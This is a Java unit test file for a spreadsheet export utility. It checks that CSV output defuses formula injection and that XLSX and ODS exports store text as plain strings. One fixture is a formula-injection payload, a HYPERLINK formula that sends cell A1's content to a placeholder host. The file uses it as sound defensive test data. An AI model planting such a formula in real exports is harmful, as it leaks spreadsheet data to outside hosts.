package org.probity.shared.web;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.zip.ZipInputStream;

import org.junit.jupiter.api.Test;

import org.springframework.http.HttpHeaders;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

class TableExportTests {

	static final String LINK = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";

	private static Table people() {
		return Table.titled("People: [first]")
			.text("Name", "Reason")
			.number("Change")
			.row(LINK, "+1 point", -2.5)
			.row("@SUM(A1)", "-5", 3)
			.row("\tTabbed", "\rReturned", null)
			.row("Ann Smith", "plain", 1234567)
			.row("O'Brien", "a - b", Double.NaN);
	}

	@Test
	void csvNeutralisesEveryTextCellThatASpreadsheetWouldRunAsAFormula() {
		String csv = new String(TableExport.csv(List.of(people())), StandardCharsets.UTF_8);

		assertThat(csv.lines().toList()).containsExactly("Name,Reason,Change",
				"\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\",'+1 point,-2.5", "'@SUM(A1),'-5,3",
				"'\tTabbed,\"'\rReturned\",".split("\r", 2)[0], "Returned\",", "Ann Smith,plain,1234567",
				"O'Brien,a - b,");
	}

	@Test
	void neutralisesTheSixStartsAndNothingElse() {
		assertThat(List.of("=1", "+1", "-1", "@a", "\ta", "\ra").stream().map(TableExport::neutralised))
			.containsExactly("'=1", "'+1", "'-1", "'@a", "'\ta", "'\ra");
		assertThat(List.of("a=1", " =1", "1-2", "", "'=1").stream().map(TableExport::neutralised))
			.containsExactly("a=1", " =1", "1-2", "", "'=1");
	}

	@Test
	void aNumberColumnKeepsNegativeNumbersAsNumbersButATextColumnDoesNot() {
		Table table = Table.titled("T").number("Amount").text("Label").row(-3, -3).row(-0.25, "-0.25");

		String csv = new String(TableExport.csv(List.of(table)), StandardCharsets.UTF_8);

		assertThat(csv.lines().toList()).containsExactly("Amount,Label", "-3,'-3", "-0.25,'-0.25");
	}

	@Test
	void xlsxWritesTextAsStringCellsUnchangedAndNumbersAsNumbers() {
		var sheets = Spreadsheets.xlsx(TableExport.xlsx(List.of(people())));

		assertThat(sheets).containsOnlyKeys("People   first");
		List<List<Spreadsheets.Cell>> rows = sheets.get("People   first");
		assertThat(rows.get(0)).extracting(Spreadsheets.Cell::text).containsExactly("Name", "Reason", "Change");
		assertThat(rows.get(1)).containsExactly(new Spreadsheets.Cell(Spreadsheets.Kind.STRING, LINK),
				new Spreadsheets.Cell(Spreadsheets.Kind.STRING, "+1 point"),
				new Spreadsheets.Cell(Spreadsheets.Kind.NUMBER, "-2.5"));
		assertThat(rows.get(2).get(1)).isEqualTo(new Spreadsheets.Cell(Spreadsheets.Kind.STRING, "-5"));
		assertThat(rows.get(4).get(2)).isEqualTo(new Spreadsheets.Cell(Spreadsheets.Kind.NUMBER, "1234567"));
		assertThat(rows.stream().flatMap(List::stream))
			.noneMatch((cell) -> cell != null && cell.kind() == Spreadsheets.Kind.FORMULA);
	}

	@Test
	void odsIsAnOpenDocumentSpreadsheetWithStringAndFloatCells() throws Exception {
		byte[] ods = TableExport.ods(List.of(people(), Table.titled("Second").text("X").row("<b>&</b>")));

		try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(ods))) {
			assertThat(zip.getNextEntry().getName()).as("the mimetype comes first").isEqualTo("mimetype");
		}
		var sheets = Spreadsheets.ods(ods);
		assertThat(sheets).containsOnlyKeys("People   first", "Second");
		List<List<Spreadsheets.Cell>> rows = sheets.get("People   first");
		assertThat(rows.get(1)).containsExactly(new Spreadsheets.Cell(Spreadsheets.Kind.STRING, LINK),
				new Spreadsheets.Cell(Spreadsheets.Kind.STRING, "+1 point"),
				new Spreadsheets.Cell(Spreadsheets.Kind.NUMBER, "-2.5"));
		assertThat(rows.get(3).get(2)).as("an empty number").isNull();
		assertThat(rows.get(5).get(2)).as("NaN is no number").isNull();
		assertThat(sheets.get("Second").get(1).get(0).text()).isEqualTo("<b>&</b>");
	}

	@Test
	void severalTablesInCsvComeOneAfterAnotherUnderTheirTitles() {
		String csv = new String(
				TableExport
					.csv(List.of(Table.titled("=First").text("A").row("1"), Table.titled("Second").number("B").row(2))),
				StandardCharsets.UTF_8);

		assertThat(csv.lines().toList()).containsExactly("'=First", "A", "1", "", "Second", "B", "2");
	}

	@Test
	void sheetNamesAreShortUniqueAndWithoutForbiddenCharacters() {
		String longTitle = "A very long title for a sheet that is over the limit";
		var sheets = Spreadsheets.xlsx(TableExport.xlsx(List.of(Table.titled(longTitle).text("A"),
				Table.titled(longTitle).text("A"), Table.titled("a/b\u0000c").text("A"))));

		assertThat(sheets.keySet()).containsExactly(longTitle.substring(0, 31), longTitle.substring(0, 29) + " 2",
				"a bc");
	}

	@Test
	void aResponseIsADownloadOfTheFormatAsked() {
		var csv = TableExport.response("cases 2024-03", "csv", people());
		var ods = TableExport.response("cases", "ODS", people());

		assertThat(csv.getHeaders().getContentType().toString()).isEqualTo("text/csv;charset=UTF-8");
		assertThat(csv.getHeaders().getFirst(HttpHeaders.CONTENT_DISPOSITION)).contains("cases-2024-03.csv");
		assertThat(ods.getHeaders().getContentType().toString())
			.isEqualTo("application/vnd.oasis.opendocument.spreadsheet");
		assertThat(TableExport.wanted("xlsx")).isTrue();
		assertThat(TableExport.wanted("html")).isFalse();
		assertThat(TableExport.wanted(null)).isFalse();
		assertThatIllegalArgumentException().isThrownBy(() -> TableExport.response("x", "pdf", people()));
	}

}
